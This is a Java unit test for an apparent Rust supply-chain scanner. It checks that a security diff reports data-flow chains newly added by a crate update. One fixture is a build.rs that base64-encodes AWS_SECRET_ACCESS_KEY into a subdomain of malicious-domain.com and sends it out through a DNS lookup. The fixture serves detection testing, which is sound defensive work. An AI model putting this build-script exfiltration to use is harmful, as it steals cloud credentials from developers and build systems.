package dev.warden.evaluate.diff;

import dev.warden.cargo.change.Base;
import dev.warden.cargo.change.Change;
import dev.warden.cargo.lock.LockedPackage;
import dev.warden.cargo.lock.LockfileParser;
import dev.warden.cargo.lock.PackageId;
import dev.warden.cargo.project.Project;
import dev.warden.cargo.project.ProjectLoader;
import dev.warden.check.CheckContext;
import dev.warden.evaluate.scan.CrateScan;
import dev.warden.evaluate.scan.CrateScanner;
import dev.warden.evaluate.scan.ScannedCrates;
import dev.warden.evaluate.source.CrateDirectory;
import dev.warden.evaluate.source.TreeLimits;
import dev.warden.testing.Fixtures;
import dev.warden.testing.Lockfiles;
import dev.warden.testing.TestEnv;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.util.HashMap;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/** The diff tells which data-flow chains an update brings, not the ones the old version already had. */
class NewFlowsTest {

    private static final String BENIGN = """
            fn main() {
                println!("cargo:rerun-if-changed=build.rs");
            }
            """;
    private static final String STEALING = """
            use std::net::ToSocketAddrs;
            fn main() {
                println!("cargo:rerun-if-changed=build.rs");
                let key = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap_or_default();
                let host = format!("{}.malicious-domain.com:53", base64::encode(&key));
                let _ = host.to_socket_addrs();
            }
            """;

    @TempDir
    Path dir;

    private SecurityDiff.Review review(String oldBuildScript, String newBuildScript) {
        Fixtures.write(dir, "app/Cargo.lock", Lockfiles.appDependingOn("rust-utilities-v2 2.1.1"));
        Project project = new ProjectLoader(TestEnv.in(dir)).load(dir.resolve("app").toString());
        Change change = Change.between(new Base(LockfileParser.parse(Lockfiles.appDependingOn(
                "rust-utilities-v2 2.1.0"), Path.of("before.lock")), "before.lock"), project.lockfile());
        Map<PackageId, ScannedCrates.Outcome> outcomes = new HashMap<>();
        LockedPackage after = change.changes().getFirst().after();
        LockedPackage before = change.changes().getFirst().before();
        outcomes.put(before.id(), new ScannedCrates.Scanned(scan("2.1.0", oldBuildScript), false));
        outcomes.put(after.id(), new ScannedCrates.Scanned(scan("2.1.1", newBuildScript), false));
        SecurityDiff.Result result = SecurityDiff.review(new CheckContext(project, null, change,
                ScannedCrates.of(outcomes), TestEnv.in(dir)), "Cargo.lock");
        return result.reviews().getFirst();
    }

    private CrateScan scan(String version, String buildScript) {
        Path crate = dir.resolve("rust-utilities-v2-" + version);
        Fixtures.write(crate, "Cargo.toml", "[package]\nname = \"rust-utilities-v2\"\nversion = \"" + version
                + "\"\nedition = \"2021\"\n");
        Fixtures.write(crate, "src/lib.rs", "pub fn util() {}\n");
        Fixtures.write(crate, "build.rs", buildScript);
        return CrateScanner.scan(CrateDirectory.read(crate, TreeLimits.DEFAULT), true, null);
    }

    @Test
    void anUpdateThatAddsAChainSaysWhatItAddsAndWhere() {
        SecurityDiff.Review review = review(BENIGN, STEALING);
        assertThat(review.flowStories()).containsExactly("2.1.1 adds (build script): env AWS_SECRET_ACCESS_KEY "
                + "→ key → host → to_socket_addrs (DNS lookup), build.rs:4-6");
        assertThat(review.newFlows().getFirst().chain().steps()).extracting(s -> s.line()).containsExactly(4, 4, 5, 6);
    }

    @Test
    void aChainTheOldVersionHadIsNotNewEvenWhenItMoved() {
        String moved = STEALING.replace("fn main() {\n", "fn main() {\n    // refactored\n\n");
        SecurityDiff.Review review = review(STEALING, moved);
        assertThat(review.afterScan().flows()).hasSize(1);
        assertThat(review.afterScan().flows().getFirst().chain().line()).isEqualTo(6);
        assertThat(review.newFlows()).isEmpty();
        assertThat(review.flowStories()).isEmpty();
    }
}
